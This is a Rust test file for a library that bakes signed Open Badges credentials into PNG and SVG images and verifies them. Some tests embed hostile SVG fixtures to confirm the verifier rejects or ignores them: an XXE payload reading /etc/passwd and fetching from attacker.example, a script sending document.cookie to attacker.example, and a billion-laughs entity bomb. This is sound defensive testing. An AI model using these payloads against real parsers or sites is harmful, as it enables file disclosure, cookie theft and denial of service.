//! Baked badges: the credential comes back out byte for byte, and damaged or ambiguous images
//! get a clear verdict.

use crate::common::{award, check, crc32, options, tiny_png, NOW};
use guildbook_badges::*;

fn signed_json_and_jwt() -> (String, String) {
    let key = IssuerKey::generate("bake");
    let signer = Signer::new().unwrap();
    let mut model = award();
    model.status = None;
    // A name that would end a CDATA section early if it were baked naively.
    model.achievement.name = "Arrays]]>and<tags> & more".into();
    let credential = build_credential(&model);
    let json = serde_json::to_string(&signer.sign_data_integrity(&credential, &key, NOW).unwrap())
        .unwrap();
    let jwt = signer.sign_vc_jwt(&credential, &key).unwrap();
    (json, jwt)
}

const SVG: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" data-note="a > in an attribute"><circle r="30" cx="32" cy="32"/></svg>"#;

/// Chunks of a PNG as (type, data), for assertions independent of the crate.
fn chunk_types(png: &[u8]) -> Vec<String> {
    let mut at = 8;
    let mut types = Vec::new();
    while at + 8 <= png.len() {
        let len = u32::from_be_bytes(png[at..at + 4].try_into().unwrap()) as usize;
        types.push(String::from_utf8_lossy(&png[at + 4..at + 8]).into_owned());
        at += 12 + len;
    }
    types
}

fn itxt_chunk(data: &[u8]) -> Vec<u8> {
    let mut chunk = (data.len() as u32).to_be_bytes().to_vec();
    chunk.extend_from_slice(b"iTXt");
    chunk.extend_from_slice(data);
    let crc = crc32(&chunk[4..]);
    chunk.extend_from_slice(&crc.to_be_bytes());
    chunk
}

/// Inserts a raw chunk just before IEND.
fn with_chunk_before_iend(png: &[u8], chunk: &[u8]) -> Vec<u8> {
    let iend = png.len() - 12;
    [&png[..iend], chunk, &png[iend..]].concat()
}

#[test]
fn png_round_trip_gives_back_the_exact_credential_in_one_uncompressed_itxt_chunk() {
    let (json, jwt) = signed_json_and_jwt();
    for text in [&json, &jwt] {
        let baked = bake_png(&tiny_png(), text).unwrap();
        assert_eq!(unbake_png(&baked).unwrap().as_bytes(), text.as_bytes());
        let types = chunk_types(&baked);
        assert_eq!(types.iter().filter(|t| *t == "iTXt").count(), 1);
        assert_eq!(types.last().map(String::as_str), Some("IEND"));
        let keyword_at = baked
            .windows(20)
            .position(|w| w == b"openbadgecredential\0")
            .unwrap();
        assert_eq!(baked[keyword_at + 20], 0, "compression flag must be 0");
        let report = Verifier::new().unwrap().verify(&baked, &options(NOW));
        assert_eq!(report.verdict, Verdict::Valid, "{:#?}", report.checks);
        assert_eq!(report.format, "png");
    }
}

#[test]
fn baking_again_replaces_the_old_credential() {
    let (json, jwt) = signed_json_and_jwt();
    let once = bake_png(&tiny_png(), &json).unwrap();
    let twice = bake_png(&once, &jwt).unwrap();
    assert_eq!(
        chunk_types(&twice).iter().filter(|t| *t == "iTXt").count(),
        1
    );
    assert_eq!(unbake_png(&twice).unwrap(), jwt);

    let svg_once = bake_svg(SVG, &json).unwrap();
    let svg_twice = bake_svg(&svg_once, &jwt).unwrap();
    assert_eq!(svg_twice.matches("<openbadges:credential").count(), 1);
    assert_eq!(unbake_svg(&svg_twice).unwrap(), jwt);
}

#[test]
fn a_png_with_two_credential_chunks_is_refused_as_ambiguous() {
    let (json, _) = signed_json_and_jwt();
    let baked = bake_png(&tiny_png(), &json).unwrap();
    let mut second = b"openbadgecredential\0\0\0\0\0".to_vec();
    second.extend_from_slice(json.as_bytes());
    let doubled = with_chunk_before_iend(&baked, &itxt_chunk(&second));
    assert!(unbake_png(&doubled).is_err());
    let report = Verifier::new().unwrap().verify(&doubled, &options(NOW));
    assert_eq!(report.verdict, Verdict::Invalid);
    assert_eq!(check(&report, "format").outcome, Outcome::Failed);
    assert!(check(&report, "format")
        .detail
        .contains("2 openbadgecredential chunks"));
}

#[test]
fn malformed_credential_chunks_are_refused_with_the_reason() {
    let (json, _) = signed_json_and_jwt();
    let verifier = Verifier::new().unwrap();
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("compressed", {
            let mut data = b"openbadgecredential\0\x01\0\0\0".to_vec();
            data.extend_from_slice(json.as_bytes());
            with_chunk_before_iend(&tiny_png(), &itxt_chunk(&data))
        }),
        (
            "malformed",
            with_chunk_before_iend(&tiny_png(), &itxt_chunk(b"openbadgecredential\0\0")),
        ),
        ("CRC", {
            let mut png = bake_png(&tiny_png(), &json).unwrap();
            let at = png.windows(4).position(|w| w == b"\"id\"").unwrap();
            png[at + 1] = b'X';
            png
        }),
    ];
    for (reason, png) in cases {
        let report = verifier.verify(&png, &options(NOW));
        assert_eq!(report.verdict, Verdict::Invalid, "{reason}");
        assert!(
            check(&report, "format").detail.contains(reason),
            "{reason}: {:?}",
            report.checks
        );
    }
}

#[test]
fn svg_round_trip_keeps_json_in_cdata_and_a_jwt_in_the_verify_attribute() {
    let (json, jwt) = signed_json_and_jwt();
    let baked = bake_svg(SVG, &json).unwrap();
    assert!(baked.contains(r#"xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0""#));
    assert!(baked.contains("<openbadges:credential><![CDATA["));
    assert_eq!(unbake_svg(&baked).unwrap().as_bytes(), json.as_bytes());
    let baked_jwt = bake_svg(SVG, &jwt).unwrap();
    assert!(baked_jwt.contains(&format!(r#"<openbadges:credential verify="{jwt}"/>"#)));
    assert_eq!(unbake_svg(&baked_jwt).unwrap(), jwt);
    let verifier = Verifier::new().unwrap();
    for svg in [&baked, &baked_jwt] {
        let report = verifier.verify(svg.as_bytes(), &options(NOW));
        assert_eq!(report.verdict, Verdict::Valid, "{:#?}", report.checks);
        assert_eq!(report.format, "svg");
    }
    // A self-closing root works too.
    let minimal = bake_svg(r#"<svg xmlns="http://www.w3.org/2000/svg"/>"#, &jwt).unwrap();
    assert_eq!(unbake_svg(&minimal).unwrap(), jwt);
}

#[test]
fn an_svg_with_an_external_entity_is_refused_and_nothing_is_fetched() {
    let (json, _) = signed_json_and_jwt();
    let hostile = format!(
        r#"<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY remote SYSTEM "https://attacker.example/x">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
<openbadges:credential>&secret;&remote;<![CDATA[{json}]]></openbadges:credential></svg>"#
    );
    let report = Verifier::new()
        .unwrap()
        .verify(hostile.as_bytes(), &options(NOW));
    assert_eq!(report.verdict, Verdict::Invalid);
    assert_eq!(check(&report, "format").outcome, Outcome::Failed);
    assert!(
        !format!("{report:?}").contains("root:"),
        "file contents must never appear"
    );
}

#[test]
fn scripts_in_an_svg_are_never_run_only_the_credential_is_read() {
    let (json, _) = signed_json_and_jwt();
    let with_script = SVG.replace(
        "<circle",
        r#"<script>fetch("https://attacker.example/?" + document.cookie)</script><image href="https://attacker.example/pixel.png"/><circle"#,
    );
    let baked = bake_svg(&with_script, &json).unwrap();
    assert!(
        baked.contains("<script>"),
        "baking leaves the artwork alone"
    );
    let report = Verifier::new()
        .unwrap()
        .verify(baked.as_bytes(), &options(NOW));
    assert_eq!(report.verdict, Verdict::Valid, "{:#?}", report.checks);
    assert!(!serde_json::to_string(&report.credential)
        .unwrap()
        .contains("attacker"));
}

#[test]
fn a_billion_laughs_svg_is_refused() {
    let mut dtd = String::from("<!ENTITY a0 \"lol\">");
    for i in 1..10 {
        let prev = format!("&a{};", i - 1);
        dtd.push_str(&format!("<!ENTITY a{i} \"{}\">", prev.repeat(10)));
    }
    let svg = format!(
        r#"<!DOCTYPE svg [{dtd}]><svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"><openbadges:credential>&a9;</openbadges:credential></svg>"#
    );
    let report = Verifier::new()
        .unwrap()
        .verify(svg.as_bytes(), &options(NOW));
    assert_eq!(report.verdict, Verdict::Invalid);
    assert_eq!(check(&report, "format").outcome, Outcome::Failed);
}
